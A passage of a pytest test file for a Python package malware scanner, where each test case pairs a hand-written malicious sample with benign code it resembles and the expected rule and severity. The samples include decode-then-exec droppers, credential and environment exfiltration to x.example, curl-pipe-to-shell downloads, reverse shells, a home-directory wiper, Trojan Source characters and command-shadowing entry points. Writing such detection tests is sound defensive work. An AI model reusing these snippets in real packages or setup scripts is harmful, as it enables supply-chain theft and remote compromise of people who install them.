"""check_code over hand-written members: each threat next to the benign code it resembles."""

from __future__ import annotations

import gc
from collections import Counter

import pytest

from analysis.model import Severity
from tests.analysis.code.members import (
    PAYLOAD,
    SDIST,
    WHEEL,
    C,
    H,
    L,
    M,
    N,
    laid_out,
    scan,
    setup_py,
    worst,
)

CASES = [
    # ---- decode -> exec
    (
        setup_py(f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"),
        "code.decode-exec",
        C,
        "base64 literal executed by setup.py at install time",
    ),
    (
        setup_py(
            f"import base64 as b\nx = b.b64decode('{PAYLOAD}')\ny = x\neval(compile(y, 'f', 'exec'))\n"
        ),
        "code.decode-exec",
        C,
        "alias and two variables between decode and exec",
    ),
    (
        setup_py(f"import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'{PAYLOAD}')))\n"),
        "code.decode-exec",
        C,
        "marshal + zlib into exec",
    ),
    (
        setup_py(
            f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{PAYLOAD}'))\n"
        ),
        "code.decode-exec",
        C,
        "Fernet decrypt into exec",
    ),
    (
        setup_py(
            "b = getattr(__builtins__, 'ev' + 'al')\nb(''.join(chr(c) for c in [112, 114, 105]))\n"
        ),
        "code.decode-exec",
        C,
        "chr-join into eval fetched through builtins",
    ),
    (setup_py(f"exec('{PAYLOAD}'[::-1])\n"), "code.decode-exec", C, "reversed string executed"),
    (
        setup_py(f"P = '{PAYLOAD}'\nexec(P[::-1])\n"),
        "code.decode-exec",
        C,
        "a reversed module-level literal executed",
    ),
    (
        setup_py("import sys\nexec(sys.stdin.read()[::-1])\n"),
        "code.decode-exec",
        C,
        "a reversal handed straight to exec",
    ),
    (
        {
            "demo/repl.py": f"def loop(lines):\n    last = lines[::-1]\n    text = last[0]\n"
            f"    banner = '{PAYLOAD}'\n    return eval(text), banner\n"
        },
        "code.decode-exec",
        None,
        "FP regression: a list reversed in a REPL that evaluates input",
    ),
    (
        {"demo/__init__.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
        "code.decode-exec",
        C,
        "decode->exec in a package __init__ runs on import",
    ),
    (
        {"demo/util.py": f"import base64\ndef f():\n    exec(base64.b64decode('{PAYLOAD}'))\n"},
        "code.decode-exec",
        H,
        "decode->exec in a function: only when called",
    ),
    (
        {"demo/util.py": "import base64\ndef f(blob):\n    exec(base64.b64decode(blob))\n"},
        "code.decode-exec",
        L,
        "no shipped payload: a plugin loader, not a dropper",
    ),
    (
        setup_py(
            "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB')\n"
            "open('icon.png', 'wb').write(ICON)\n"
        ),
        "code.decode-exec",
        None,
        "benign: a decoded icon written to a file, never executed",
    ),
    (
        setup_py("exec(open('demo/_version.py').read())\n"),
        "code.decode-exec",
        None,
        "benign: the classic version-reading idiom",
    ),
    # ---- exfiltration
    (
        setup_py(
            "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environ))\n"
        ),
        "code.exfiltration",
        C,
        "the whole environment posted at install time",
    ),
    (
        setup_py(
            "import socket, urllib.request as u\nh = socket.gethostname()\n"
            "u.urlopen('https://x.example/?h=' + h)\n"
        ),
        "code.exfiltration",
        C,
        "hostname sent at install time through a variable",
    ),
    (
        {
            "demo/__init__.py": "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "requests.post('https://x.example', data=k)\n"
        },
        "code.exfiltration",
        H,
        "cloud credentials sent on import",
    ),
    (
        {
            "demo/steal.py": "import requests\ndef go():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
            "    requests.post('https://x.example', data=k)\n"
        },
        "code.exfiltration",
        H,
        "ssh key sent from a function: what the victim installed it for",
    ),
    (
        setup_py(
            "import os, urllib.request\n\ndef _sync():\n"
            "    key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'), 'rb').read()\n"
            "    urllib.request.urlopen('https://x.example/k', data=key)\n\n_sync()\n"
        ),
        "code.exfiltration",
        C,
        "an SSH key joined from pieces and sent by urlopen(data=) at install",
    ),
    (
        {
            "demo/__init__.py": "import os, json, urllib.request\n\ndef grab():\n"
            "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
            "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
            "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
            "    urllib.request.urlopen(req)\n\ngrab()\n"
        },
        "code.exfiltration",
        H,
        "Discord's token store joined from pieces and posted on import",
    ),
    (
        {
            "demo/sync.py": "import os, json, urllib.request\n\ndef grab():\n"
            "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
            "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
            "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
            "    urllib.request.urlopen(req)\n"
        },
        "code.exfiltration",
        H,
        "the same grabber in a function: the tokens flow through Request",
    ),
    (
        {
            "demo/sync.py": "import glob, os, requests\ndef backup():\n"
            "    for path in glob.glob(os.path.join(os.path.expanduser('~'), '.ssh', 'id_*')):\n"
            "        requests.post('https://x.example/k', data=open(path).read())\n"
        },
        "code.exfiltration",
        H,
        "keys found by a loop over a credential folder, sent in the loop",
    ),
    (
        {
            "demo/sync.py": "import glob, requests\ndef upload(folder):\n"
            "    for path in glob.glob(folder + '/*.csv'):\n"
            "        requests.post('https://api.example/up', data=open(path).read())\n"
        },
        "code.exfiltration",
        None,
        "benign: a loop over the user's own folder",
    ),
    (
        {
            "demo/client.py": "import os, requests\ndef call():\n    token = os.environ['API_TOKEN']\n"
            "    return requests.get('https://api.example', headers={'t': token})\n"
        },
        "code.exfiltration",
        None,
        "benign: an SDK sends its own API token from the environment",
    ),
    (
        setup_py(
            "import os, urllib.request\nCC = os.environ.get('CC', 'gcc')\n"
            "urllib.request.urlretrieve('https://example.org/lib.tar.gz', 'lib.tar.gz')\n"
        ),
        "code.exfiltration",
        None,
        "benign: reads CC and downloads a source tarball, sends no data",
    ),
    # ---- download -> exec
    (
        setup_py(
            "import os, urllib.request\nurllib.request.urlretrieve('http://x.example/a', '/tmp/a')\n"
            "os.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')\n"
        ),
        "code.download-exec",
        C,
        "download, chmod, run at install time",
    ),
    (
        setup_py("import os\nos.system('curl -s https://x.example/i.sh | sh')\n"),
        "code.download-exec",
        C,
        "curl piped into sh at install time",
    ),
    (
        setup_py("import requests\nexec(requests.get('https://x.example/p').text)\n"),
        "code.download-exec",
        C,
        "remote code executed",
    ),
    (
        {
            "demo/data.py": "import urllib.request\ndef fetch_dataset(path):\n"
            "    urllib.request.urlretrieve('https://data.example/iris.csv', path)\n"
        },
        "code.download-exec",
        None,
        "benign: an opt-in dataset download",
    ),
    # ---- process spawn
    (
        setup_py("import subprocess\nsubprocess.check_call(['whoami'])\n"),
        "code.process-spawn",
        H,
        "asking who the user is at install time: reconnaissance",
    ),
    (
        setup_py(
            "import subprocess\nsubprocess.call('powershell -w hidden -c calc', shell=True)\n"
        ),
        "code.process-spawn",
        H,
        "powershell at install time",
    ),
    (
        setup_py(
            "import subprocess as sp\nsp.check_call(['gcc', '-c', 'x.c'])\n"
            "v = sp.check_output(['git', 'describe', '--tags'])\n"
            "sp.check_call(['pkg-config', '--cflags', 'libxml-2.0'])\n"
        ),
        "code.process-spawn",
        None,
        "benign: compiler, git describe and pkg-config",
    ),
    (
        setup_py(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\n"
        ),
        "code.process-spawn",
        None,
        "benign: a Cython build through the running interpreter",
    ),
    (
        setup_py(
            "import os, shlex, subprocess\nfrom subprocess import PIPE\n"
            "def check_linker_need_libatomic():\n"
            "    cxx = shlex.split(os.environ.get('CXX', 'c++'))\n"
            "    probe = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++17', '-'], stdin=PIPE, stdout=PIPE)\n"
            "    probe.communicate(input=b'int main() { return 0; }')\n"
            "check_linker_need_libatomic()\n"
        ),
        "code.process-spawn",
        None,
        "FP regression: a compiler probe, the compiler from the environment "
        "plus a list of flags (grpcio)",
    ),
    (
        setup_py(
            "import subprocess\ncc = find_compiler()\n"
            "subprocess.run([cc, '-x', 'c', '-', '-o', '/dev/null'], input=b'int main(){}')\n"
        ),
        "code.process-spawn",
        None,
        "benign: a found C compiler fed a test program on stdin",
    ),
    (
        setup_py(
            "import os, subprocess\nconfigure = abshere('src/libsodium/configure')\n"
            "configure_flags = ['--disable-shared', '--enable-static', '--with-pic']\n"
            "subprocess.check_call([configure] + configure_flags + ['--prefix', os.path.abspath('b')],"
            " cwd='build')\n"
        ),
        "code.process-spawn",
        None,
        "FP regression: an in-tree configure script and its flags (pynacl)",
    ),
    (
        setup_py(
            "import subprocess\nsubprocess.run(['touch', 'configure.ac', 'aclocal.m4', 'configure',"
            " 'Makefile.am', 'Makefile.in'], cwd='build/libuv', check=True)\n"
        ),
        "code.process-spawn",
        None,
        "FP regression: touching autotools files so make does not rerun them (uvloop)",
    ),
    (
        setup_py(
            "import subprocess\nbase = ['/bin/sh']\n"
            "subprocess.call(base + ['-c', 'curl -s https://x.example/i.sh | sh'])\n"
        ),
        "code.download-exec",
        C,
        "a shell plus a list of words still reads as curl | sh",
    ),
    (
        setup_py(
            "import subprocess\nflags = ['-w', 'hidden']\nsubprocess.call(['powershell'] + flags)\n"
        ),
        "code.process-spawn",
        H,
        "powershell with a list of flags added",
    ),
    (
        setup_py(
            "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
            "subprocess.Popen([os.path.join(here, 'bin', 'svc.exe'), '--install'])\n"
        ),
        "code.process-spawn",
        M,
        "a Windows program shipped in the tree, started at install: named by "
        "its last piece, medium (a bundled binary it names is raised to high)",
    ),
    (
        setup_py(
            "import subprocess\nfrom pathlib import Path\n"
            "subprocess.Popen([Path(__file__).parent / 'bin' / 'agent'])\n"
        ),
        "code.process-spawn",
        L,
        "the same, joined with pathlib's /",
    ),
    (
        setup_py("import subprocess\nsubprocess.check_output(['hostname'])\n"),
        "code.process-spawn",
        H,
        "reconnaissance at install time",
    ),
    (
        setup_py("import os\nos.system('net user')\n"),
        "code.process-spawn",
        H,
        "reconnaissance of Windows accounts",
    ),
    (setup_py("import os\nos.system('rm -rf ~')\n"), "code.process-spawn", H, "a wiper at install"),
    (
        setup_py("import os\nos.system('rm -rf build dist')\n"),
        "code.process-spawn",
        L,
        "a clean step removes build output: low",
    ),
    (
        setup_py(
            "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n"
        ),
        "code.process-spawn",
        L,
        "FP regression: the upload-command template",
    ),
    (
        setup_py("import subprocess\nsubprocess.check_call(['pnpm', 'run', 'build'])\n"),
        "code.process-spawn",
        L,
        "FP regression: a frontend build at install",
    ),
    (
        setup_py("import subprocess\ncmd = ['make', '-j4']\nsubprocess.check_call(cmd)\n"),
        "code.process-spawn",
        None,
        "a build command held in a variable",
    ),
    (
        setup_py("import subprocess\ncmd = ['powershell', '-w', 'hidden']\nsubprocess.call(cmd)\n"),
        "code.process-spawn",
        H,
        "powershell held in a variable",
    ),
    (
        setup_py(
            "import subprocess\ndef probe(tool):\n    subprocess.call([tool, '--version'])\n"
            "probe('gcc')\n"
        ),
        "code.process-spawn",
        None,
        "a program passed in as a parameter: unknown, most often a found compiler",
    ),
    (
        setup_py(
            "import os, subprocess\nhere = os.path.dirname(__file__)\n"
            "subprocess.check_call([os.path.join(here, 'configure'), '--quiet'])\n"
        ),
        "code.process-spawn",
        None,
        "benign: an in-tree configure script named by os.path.join",
    ),
    # ---- reverse shells: a socket on the standard streams, then a shell
    (
        setup_py(
            "import os, pty, socket\n\ndef _connect():\n"
            "    s = socket.socket(); s.connect(('93.184.216.34', 4444))\n"
            "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
            "    pty.spawn('/bin/sh')\n\nif os.fork() == 0:\n    _connect()\n"
        ),
        "code.process-spawn",
        C,
        "a reverse shell forked from setup.py",
    ),
    (
        {
            "demo/__init__.py": "import os, socket, subprocess\n"
            "s = socket.create_connection((HOST, 443))\n"
            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
            "subprocess.call(['/bin/bash', '-i'])\n"
        },
        "code.process-spawn",
        C,
        "a reverse shell on import, through subprocess",
    ),
    (
        {
            "demo/shell.py": "import os, socket, pty\ndef serve(host, port):\n"
            "    s = socket.socket()\n    s.connect((host, port))\n"
            "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n"
        },
        "code.process-spawn",
        H,
        "a reverse shell in a function nothing calls: harmful wherever it runs",
    ),
    (
        setup_py(
            "import os, subprocess\nlog = open('build.log', 'w')\nos.dup2(log.fileno(), 1)\n"
            "subprocess.check_call(['make'])\n"
        ),
        "code.process-spawn",
        None,
        "benign: build output redirected to a log file, no socket",
    ),
    (
        setup_py(
            "import socket, subprocess\ns = socket.socket()\ns.connect(('localhost', 8080))\n"
            "subprocess.check_call(['make'])\n"
        ),
        "code.process-spawn",
        None,
        "benign: a socket and a build, nothing dup2'ed",
    ),
    (
        setup_py("import socket\ns = socket.create_connection(('93.184.216.34', 443))\n"),
        "code.shady-url",
        H,
        "a raw public IP in a connect tuple, next to the socket send",
    ),
    (
        setup_py(
            "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 8080))\n"
            "s.connect(PEER)\ns.connect(())\n"
        ),
        "code.shady-url",
        None,
        "benign: loopback, an address in a variable, an empty tuple",
    ),
    # ---- shady URLs
    (
        setup_py(
            "import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/"
            "abcdefghijklmnopqrstuvwxyz0123456789', json={'a': 1})\n"
        ),
        "code.shady-url",
        H,
        "a Discord webhook with its token next to a send",
    ),
    (
        {"demo/net.py": "URL = 'http://93.184.216.34:8080/x'\n"},
        "code.shady-url",
        None,
        "a raw public IP in a module that never runs on its own and never sends: info, dropped",
    ),
    (setup_py("U = 'https://abc.ngrok-free.app/x'\n"), "code.shady-url", L, "a tunnel URL alone"),
    (setup_py("U = 'http://192.168.1.10/x'\n"), "code.shady-url", None, "benign: a private IP"),
    (
        setup_py("'''Post to https://pastebin.com/raw/abc for help.'''\n"),
        "code.shady-url",
        None,
        "benign: URLs in docstrings are prose",
    ),
    (
        {
            "demo/bot.py": "import requests\nAPI = 'https://discord.com/api/webhooks/{id}/{token}'\n"
            "def send(i, t, m):\n    requests.post(API.format(id=i, token=t), json=m)\n"
        },
        "code.shady-url",
        None,
        "benign: a webhook library's URL template",
    ),
    # ---- credential access without a send
    (
        setup_py("data = open('/etc/passwd').read()\n"),
        "code.credential-access",
        M,
        "reads /etc/passwd at install time",
    ),
    (
        setup_py("import os\nrc = open(os.path.expanduser('~/.npmrc')).read()\n"),
        "code.credential-access",
        M,
        "an npm token file opened at install time",
    ),
    (
        setup_py(
            "ACTIVATE = '''\nnpm_config_cache=\"$NODE_VIRTUAL_ENV/.npm\"\n"
            "npm_config_userconfig=\"$NODE_VIRTUAL_ENV/.npmrc\"\nexport npm_config_userconfig\n'''\n"
            "open('bin/activate', 'w').write(ACTIVATE)\n"
        ),
        "code.credential-access",
        None,
        "FP regression: a shell template that sets up an .npmrc path reads nothing (nodeenv)",
    ),
    (
        setup_py(
            "import os\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
        ),
        "code.credential-access",
        M,
        "an SSH key path split across os.path.join pieces",
    ),
    (
        setup_py(
            "from pathlib import Path\ncreds = (Path.home() / '.aws' / 'credentials').read_text()\n"
        ),
        "code.credential-access",
        M,
        "a cloud credentials path joined with pathlib's /",
    ),
    (
        setup_py(
            "import os\nhosts = os.path.join(os.path.expanduser('~'), '.ssh')\n"
            "cfg = os.path.join(os.path.expanduser('~'), '.config', 'demo.toml')\n"
        ),
        "code.credential-access",
        None,
        "benign: the .ssh directory itself and an app's own config",
    ),
    # ---- obfuscation
    (
        setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"),
        "code.obfuscation",
        H,
        "exec fetched by a built-up name at install: hiding",
    ),
    (
        {"demo/__init__.py": "_f = getattr(__builtins__, 'ex' + 'ec', None)\n"},
        "code.obfuscation",
        H,
        "exec fetched by a built-up name on import",
    ),
    (
        {
            "demo/util.py": "import base64\ndef run(b):\n    getattr(__builtins__, 'ev' + 'al')(base64.b64decode(b))\n"
        },
        "code.obfuscation",
        L,
        "a built-up exec name in a function nothing calls",
    ),
    (
        setup_py("__builtins__.__dict__['ex' + 'ec']('print(1)')\n"),
        "code.obfuscation",
        H,
        "exec taken from the builtins __dict__ by a built-up key",
    ),
    (
        {"demo/compat.py": "text_type = getattr(__builtins__, 'unicode', str)\n"},
        "code.obfuscation",
        L,
        "a Python 2 compat lookup: low only",
    ),
    (
        setup_py("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"),
        "code.obfuscation",
        M,
        "a PyArmor-encrypted setup.py",
    ),
    (
        {
            "demo/__init__.py": "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n"
            "__pyarmor__(__name__, __file__, b'\\x50\\x59')\n"
        },
        "code.obfuscation",
        M,
        "a PyArmor-encrypted package __init__: unreviewable code on import",
    ),
    (
        {"demo/_impl.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"},
        "code.obfuscation",
        L,
        "a PyArmor loader in a module nothing imports on its own",
    ),
    (
        {
            "demo/_impl.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
            "__pyarmor__(__name__, __file__, b'\\x50\\x59')\n"
        },
        "code.obfuscation",
        M,
        "the encrypted module itself, run when called: nobody can review it",
    ),
    (
        {
            "demo/scan.py": "def visit(func):\n    if func in ('pyarmor_runtime', '__pyarmor__'):\n"
            "        return 'PyArmor-obfuscated code'\n"
        },
        "code.obfuscation",
        L,
        "a scanner that names PyArmor's calls encrypts nothing",
    ),
    (
        setup_py("x = 1" + " " * 200 + "; exec('print(1)')\n"),
        "code.obfuscation",
        H,
        "code hidden far right of a long run of spaces, at install",
    ),
    (
        {"demo/util.py": "x = 1" + " " * 200 + "; exec('print(1)')\n"},
        "code.obfuscation",
        M,
        "the same in a module nothing imports: medium",
    ),
    # ---- false positives found on real wheels, rewritten
    (
        {
            "demo/compat.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n",
            "demo/__init__.py": "from . import compat\n",
        },
        "code.obfuscation",
        L,
        "FP regression: a six-style compat alias of exec imported on import",
    ),
    (
        {
            "demo/errors.py": "def lookup(name):\n    return getattr(__builtins__, name, OSError)\n"
            "E = lookup('TimeoutError')\n",
            "demo/__init__.py": "from .errors import E\n",
        },
        "code.obfuscation",
        L,
        "FP regression: a builtin exception looked up by a variable name on import",
    ),
    (
        {
            "demo/tests/test_url.py": "import socket, subprocess\ndef test_v6():\n"
            "    u = 'ws://[2a03:4000:1:2::3]/r'\n"
            "    socket.create_connection(('h', 1))\n"
        },
        "code.shady-url",
        None,
        "FP regression: an IPv6 literal in a test next to socket code: a "
        "weak receiver in code run on demand, and tests run only on request",
    ),
    (
        {
            "demo/net.py": "import requests\ndef public_ip():\n"
            "    return requests.get('https://api.ipify.org').text\n"
        },
        "code.shady-url",
        L,
        "FP regression: a network tool asking its public IP when called",
    ),
    (
        {
            "demo/cli.py": "import requests\ndef run(port):\n"
            "    return requests.get('http://93.184.216.34:31778/run/%d' % port)\n"
        },
        "code.shady-url",
        L,
        "FP regression: an internal server's raw IP in a CLI command",
    ),
    (
        setup_py("import requests\nip = requests.get('https://api.ipify.org').text\n"),
        "code.shady-url",
        H,
        "asking the public IP at install time",
    ),
    (
        {
            "demo/__init__.py": "import requests\nip = requests.get('https://ipinfo.io/json').json()\n"
        },
        "code.shady-url",
        M,
        "asking the public IP on import",
    ),
    (
        {
            "demo/notify.py": "import requests\ndef tell(text):\n    requests.post('https://discord.com/api/"
            "webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789', json={'c': text})\n"
        },
        "code.shady-url",
        M,
        "a webhook with its token next to a send, even on demand",
    ),
    # ---- invisible unicode
    (
        {"demo/__init__.py": "access = 'user'\nif access != 'none\u202e\u2066':\n    pass\n"},
        "code.invisible-unicode",
        M,
        "bidi controls left open inside a string: Trojan Source",
    ),
    (
        {
            "demo/auth.py": "def is_admin(level):\n    return level != 'user\u202e \u2066# admin\u2069 \u2066'\n"
        },
        "code.invisible-unicode",
        M,
        "a stretched string: the override and an isolate never close",
    ),
    (
        {"demo/__init__.py": "x = 'a\u202cb'\n"},
        "code.invisible-unicode",
        L,
        "a bidi close with nothing open reorders nothing (text pasted from a PDF)",
    ),
    (
        {"demo/__init__.py": "x = 'a\u202eb\u202c\u202c'\n"},
        "code.invisible-unicode",
        L,
        "one close too many reorders nothing either",
    ),
    (
        {"demo/clean.py": "import re\nZW = re.compile('[\u200b-\u200f\u202a-\u202e\ufeff]')\n"},
        "code.invisible-unicode",
        L,
        "benign: a regex class of the characters to strip",
    ),
    (
        {"demo/__init__.py": "x = 'user\u202e-admin'\n"},
        "code.invisible-unicode",
        M,
        "an override before a dash that starts no range of invisible characters",
    ),
    (
        {"demo/__init__.py": "x = 'user-\u202eadmin'\n"},
        "code.invisible-unicode",
        M,
        "an override after a dash that ends no range of invisible characters",
    ),
    (
        {"demo/__init__.py": "x = '\u2066a\u202c'\n"},
        "code.invisible-unicode",
        M,
        "an isolate closed by the embeddings' close is still open",
    ),
    (
        {
            "demo/i18n.py": "GREETING = '\u2067\u0645\u0631\u062d\u0628\u0627\u2069 {name}'\n"
            "LABEL = '\u202bRTL\u202c'\n"
        },
        "code.invisible-unicode",
        L,
        "benign: right-to-left text whose isolate and embedding close",
    ),
    (
        {"demo/__init__.py": "x = 1 # \u202e comment\n"},
        "code.invisible-unicode",
        M,
        "bidi control in a comment: Trojan Source",
    ),
    (
        {"demo/__init__.py": "name = 'cafe\u200d'\n"},
        "code.invisible-unicode",
        None,
        "benign: a zero-width joiner in text",
    ),
    (
        {"demo/util.py": "x = 1  # a pirate flag \U0001f3f4\u200d\u2620\n"},
        "code.invisible-unicode",
        None,
        "FP regression: a zero-width joiner inside an emoji in a comment",
    ),
    (
        {"demo/util.py": "x = 1  # ends with a stray space\u200b\n"},
        "code.invisible-unicode",
        None,
        "FP regression: a zero-width space pasted into a comment",
    ),
    # ---- hooks
    (
        {"evil.pth": "import os; exec('print(1)')\n", "demo/__init__.py": ""},
        "code.startup-hook",
        L,
        "a .pth line that runs code at every start",
        WHEEL,
    ),
    (
        {
            "distutils-precedence.pth": "import _distutils_hack\n",
            "_distutils_hack/__init__.py": "x = 1\n",
        },
        "code.startup-hook",
        N,
        "a plain import line: context",
        WHEEL,
    ),
    ({"sitecustomize.py": "x = 1\n"}, "code.startup-hook", L, "a shipped sitecustomize", WHEEL),
    (
        {"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = demo.cli:main\n"},
        "code.command-shadow",
        M,
        "a non-pip package installing a pip command",
        WHEEL,
    ),
    (
        {"demo-1.0/demo.egg-info/entry_points.txt": "[console_scripts]\nsudo = demo.cli:main\n"},
        "code.command-shadow",
        M,
        "an sdist's own egg-info declaring sudo",
        SDIST,
    ),
    (
        {
            "demo-1.0/venv/Lib/site-packages/pip-23.2.dist-info/entry_points.txt": "[console_scripts]\npip = pip._internal.cli.main:main\n"
        },
        "code.command-shadow",
        None,
        "FP regression: a virtualenv shipped inside an sdist",
        SDIST,
    ),
    (
        {"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n"},
        "code.command-shadow",
        None,
        "benign: its own command",
        WHEEL,
    ),
    (
        setup_py(
            "from setuptools import setup\nsetup(entry_points={'console_scripts': ['sudo=demo:m']})\n"
        ),
        "code.command-shadow",
        M,
        "setup(entry_points=...) shadowing sudo",
    ),
    (
        setup_py(
            "from setuptools import setup\nfrom setuptools.command.install import install\n"
            "class I(install):\n    def run(self):\n        install.run(self)\n"
            "setup(cmdclass={'install': I})\n"
        ),
        "code.cmdclass-override",
        N,
        "a cmdclass override alone is context",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = ['evil @ https://x.example/e.zip']\n"
            "build-backend = 'setuptools.build_meta'\n"
        },
        "code.build-backend",
        M,
        "a build requirement from a URL",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[\"build\\u002dsystem\"]\nrequires = ['evil @ https://x.example/e.zip']\n"
            "build-backend = 'setuptools.build_meta'\n"
        },
        "code.build-backend",
        M,
        "a table name spelled with a \\u escape is still read",
    ),
    (
        {"demo-1.0/pyproject.toml": "[project]\nname = 'demo'\n"},
        "code.build-backend",
        None,
        "a pyproject.toml without a build-system table",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = [\n['evil @ https://x.example/e.zip'][0],\n]\n"
            "build-backend = 'setuptools.build_meta'\n[tool.x]\na = 1\n"
        },
        "code.build-backend",
        None,
        "a line starting with [ inside a value: not TOML, skipped",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = [\n  'evil @ https://x.example/e.zip',\n]\n"
            "build-backend = 'setuptools.build_meta'\n\n[tool.ruff]\nline-length = 99\n"
        },
        "code.build-backend",
        M,
        "the build-system table read on its own, before the tool tables",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "build-system = {requires = ['evil @ https://x.example/e.zip'], "
            "build-backend = 'setuptools.build_meta'}\n"
        },
        "code.build-backend",
        M,
        "an inline build-system table",
    ),
    (
        {
            "demo-1.0/pyproject.toml": '[build-system]\nrequires = [\n"""\n[tool.x]\n""",\n'
            "'evil @ https://x.example/e.zip']\nbuild-backend = 'setuptools.build_meta'\n"
        },
        "code.build-backend",
        M,
        "a table header inside a string: the whole file is read",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
            "backend-path = ['_build']\n",
            "demo-1.0/_build/backend.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
        },
        "code.decode-exec",
        C,
        "an in-tree build backend runs at install time",
    ),
    # ---- process commands built at run time (commands.command_text)
    (
        setup_py("import os\nu = input()\nos.system(f'curl {u} | sh')\n"),
        "code.download-exec",
        C,
        "an f-string command keeps its literal parts: curl {} | sh",
    ),
    (
        setup_py("import os\nu = input()\nos.system('wget ' + u + ' -O a && ./a')\n"),
        "code.download-exec",
        C,
        "a command concatenated around an unknown URL",
    ),
    (
        setup_py("import os\nu = input()\nos.system('curl %s | bash' % u)\n"),
        "code.download-exec",
        C,
        "a %-formatted command: the template tells",
    ),
    (
        setup_py("import os\nu = input()\nos.system('curl {} | sh'.format(u))\n"),
        "code.download-exec",
        C,
        "a str.format command: the template tells",
    ),
    (
        setup_py("import os\nu = input()\nos.system(' '.join(['curl', u, '|', 'sh']))\n"),
        "code.download-exec",
        C,
        "a command joined from a list",
    ),
    (
        setup_py("import subprocess\ncmd = input()\nsubprocess.call(cmd, shell=True)\n"),
        "code.process-spawn",
        L,
        "a command nothing literal tells about: dynamic, low at install",
    ),
    (
        setup_py("import subprocess\nsubprocess.run(args=['whoami'])\n"),
        "code.process-spawn",
        H,
        "a command given as args= is read like a positional one: reconnaissance",
    ),
    (
        setup_py(
            "import subprocess\nsubprocess.call('powershell -nop -enc cAByAGkAbgB0ACgAMQApAA==')\n"
        ),
        "code.decode-exec",
        C,
        "an encoded PowerShell command is decode->exec",
    ),
    (
        setup_py("import subprocess\nsubprocess.call('sh -c \"make all\"', shell=True)\n"),
        "code.process-spawn",
        L,
        "a plain shell wrapper at install: low",
    ),
    (
        setup_py("__import__('os').system('curl -s https://x.example/i.sh | sh')\n"),
        "code.download-exec",
        C,
        "__import__('os') is the module os",
    ),
    (
        setup_py("import os\ngetattr(os, 'sys' + 'tem')('curl -s https://x.example/i.sh | sh')\n"),
        "code.download-exec",
        C,
        "getattr(os, built-up name) is os.system",
    ),
    (
        setup_py("import builtins\nf = getattr(builtins, 'cexe'[::-1])\n"),
        "code.obfuscation",
        H,
        "a reversed literal folds to 'exec'",
    ),
    # ---- facts: environment, with-blocks, codecs, builtins tricks
    (
        setup_py(
            "import urllib.request\nwith urllib.request.urlopen('https://x.example/p') as r:\n"
            "    exec(r.read())\n"
        ),
        "code.download-exec",
        C,
        "a with-as variable carries the download",
    ),
    (
        setup_py(
            "import os, requests\n"
            "requests.post('https://x.example/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
        ),
        "code.exfiltration",
        C,
        "one environment variable read and sent at install",
    ),
    (
        setup_py(
            "import os, requests\nfor k in os.environ:\n    requests.post('https://x.example', data=k)\n"
        ),
        "code.exfiltration",
        C,
        "a loop over the whole environment feeding a send",
    ),
    (
        setup_py(
            "import os, requests\nnames = [k for k in os.environ]\n"
            "requests.post('https://x.example', json=names)\n"
        ),
        "code.exfiltration",
        C,
        "a comprehension over the whole environment feeding a send",
    ),
    (
        setup_py(
            "import os, requests\nrequests.post('https://x.example', json=os.environ.copy())\n"
        ),
        "code.exfiltration",
        C,
        "os.environ.copy() takes the whole environment",
    ),
    (
        setup_py(
            "import os, requests\nif 'CI' in os.environ:\n    os.environ.setdefault('PIP_QUIET', '1')\n"
            "requests.get('https://x.example/ok')\n"
        ),
        "code.exfiltration",
        None,
        "benign: a membership test and setdefault read no values",
    ),
    (
        setup_py(f"exec(b'{PAYLOAD}'.decode('base64'))\n"),
        "code.decode-exec",
        C,
        "Python 2 str.decode('base64') into exec",
    ),
    (
        setup_py(
            "exec(open('demo/_version.py', 'rb').read().decode('utf-8'))\n"
            "exec(open('demo/_meta.py', 'rb').read().decode())\n"
        ),
        "code.decode-exec",
        None,
